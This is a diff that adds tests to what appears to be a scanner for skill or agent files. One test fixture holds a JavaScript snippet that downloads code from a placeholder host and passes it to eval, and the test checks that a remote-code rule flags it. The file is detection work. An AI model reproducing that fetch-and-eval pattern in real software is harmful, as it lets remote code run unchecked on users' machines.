@@ -134,3 +134,17 @@ def test_audit_reads_js_files_and_js_blocks(tmp_path: Path) -> None:
     assert [f.category for f in audit.findings if (f.path, f.line) == ("SKILL.md", 9)] == [
         "obfuscation"
     ]
+
+
+def test_data_from_a_download_callback_is_remote() -> None:
+    text = (
+        'https.get("https://x.example/p.js", (res) => {\n  let body = "";\n'
+        '  res.on("data", (chunk) => { body += chunk; });\n  res.on("end", () => { eval(body); });\n});\n'
+    )
+    assert "SKC-FL-001" in _rules(text)
+
+
+def test_minified_bundles_do_not_report_plain_eval() -> None:
+    bundle = "var a=1;" * 200 + "function f(s){return new Function(s)}" + "var b=2;" * 200 + "\n"
+    assert _rules(bundle) == set()
+    assert _rules("function f(s) {\n  return new Function(s);\n}\n") == {"SKC-FL-010"}
